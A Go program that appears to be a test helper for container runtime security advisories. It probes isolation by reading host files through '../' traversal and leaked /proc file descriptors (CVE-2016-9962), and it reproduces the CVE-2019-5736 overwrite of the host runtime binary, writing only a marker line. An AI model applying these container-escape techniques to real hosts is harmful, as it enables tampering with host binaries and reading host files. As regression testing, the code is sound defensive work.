// Attack is the program in the containers of the advisories: it reaches for what must be out of reach, and says what it got.
package main

import (
	"fmt"
	"os"
	"strings"
	"syscall"
	"time"
)

func main() {
	switch arg := append(os.Args[2:], "", "")[:2]; os.Args[1] {
	case "climb": // from the working directory to a file of the host
		for _, up := range []string{"", strings.Repeat("../", 30)} {
			if text, err := os.ReadFile(up + "." + arg[0]); err == nil {
				fmt.Printf("the host's file says %q\n", text)
			}
		}
	case "read": // a file, and tell it in another where one is named
		text, err := os.ReadFile(arg[0])
		out := os.Stdout
		if arg[1] != "" {
			out, _ = os.Create(arg[1])
		}
		fmt.Fprintf(out, "%q %v\n", text, err)
	case "kind": // of file and of its file system
		var st syscall.Stat_t
		var fs syscall.Statfs_t
		err := syscall.Lstat(arg[0], &st)
		fserr := syscall.Statfs(arg[0], &fs)
		fmt.Printf("mode %#o device %#x on %#x %v %v\n", st.Mode&syscall.S_IFMT, st.Rdev, fs.Type, err, fserr)
	case "mounts": // what is mounted where (proc_pid_mountinfo(5))
		text, _ := os.ReadFile("/proc/self/mountinfo")
		for _, line := range strings.Split(string(text), "\n") {
			if f := strings.Fields(line); len(f) > 4 {
				fmt.Println(f[3], "at", f[4])
			}
		}
	case "seize":
		seize()
	case "peek":
		peek(arg[0])
	case "filter": // how many system call filters there are, and what they say
		status, _ := os.ReadFile("/proc/self/status")
		_, rest, _ := strings.Cut(string(status), "Seccomp_filters:")
		fmt.Printf("filters %s, sethostname: %v\n", strings.Fields(rest)[0], syscall.Sethostname([]byte("pct")))
		if arg[0] == "" {
			time.Sleep(time.Hour)
		}
	case "nothing":
	}
}

// others calls see for each process but this one until patience ends, or see does.
func others(see func(pid string) bool) {
	self := fmt.Sprint(os.Getpid())
	for end := time.Now().Add(700 * time.Millisecond); time.Now().Before(end); {
		dir, err := os.Open("/proc")
		if err != nil {
			return
		}
		names, _ := dir.Readdirnames(-1)
		dir.Close()
		for _, name := range names {
			if name[0] >= '1' && name[0] <= '9' && name != self && see(name) {
				return
			}
		}
	}
}

// seize waits for a process whose program is not of this container, keeps the program, and writes to it when nobody runs
// it any more (CVE-2019-5736).
func seize() {
	fmt.Println("ready")
	const path = 0x200000 // O_PATH
	others(func(pid string) bool {
		fd, err := syscall.Open("/proc/"+pid+"/exe", path, 0)
		if err != nil {
			return false
		}
		defer syscall.Close(fd)
		kept := fmt.Sprintf("/proc/self/fd/%d", fd)
		if name, err := os.Readlink(kept); err != nil || name == "/attack" {
			return false
		}
		for end := time.Now().Add(time.Second); time.Now().Before(end); {
			out, err := syscall.Open(kept, syscall.O_WRONLY, 0)
			if err == nil {
				_, err = syscall.Write(out, []byte("#!/pct-overwritten\n"))
				syscall.Close(out)
				fmt.Println("wrote", err)
				return true
			}
			if err != syscall.ETXTBSY {
				fmt.Println("refused", err)
				return true
			}
		}
		fmt.Println("refused busy")
		return true
	})
	fmt.Println("done")
}

// peek looks through the files of every process that comes by for a directory from which the host's file is seen
// (CVE-2016-9962).
func peek(marker string) {
	fmt.Println("ready")
	others(func(pid string) bool {
		fds, _ := os.ReadDir("/proc/" + pid + "/fd")
		for _, fd := range fds {
			file := "/proc/" + pid + "/fd/" + fd.Name() + "/"
			for _, way := range []string{"", strings.Repeat("../", 30)} {
				if text, err := os.ReadFile(file + way + "." + marker); err == nil {
					fmt.Printf("the host's file says %q\n", text)
					return true
				}
			}
		}
		return false
	})
	fmt.Println("done")
}
